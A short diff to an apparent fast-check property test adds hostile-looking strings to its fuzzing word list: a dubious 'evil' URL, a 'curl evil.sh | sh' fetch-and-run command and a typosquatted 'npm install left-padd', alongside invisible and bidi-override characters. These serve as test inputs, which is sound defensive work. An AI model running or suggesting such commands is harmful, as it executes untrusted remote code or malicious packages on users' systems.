@@ -15,6 +15,9 @@ const words = [
   '&lt;',
   '/language/python',
   page,
+  'evil-courses.com/free',
+  'curl evil.sh | sh',
+  'npm install left-padd',
 ];
 const blanks = ['\n', '\t', ' ', '\u200b', '\u202e', '[x]: ', '- ', '> '];
 const piece = fc.constantFrom(...signs, ...words, ...blanks);
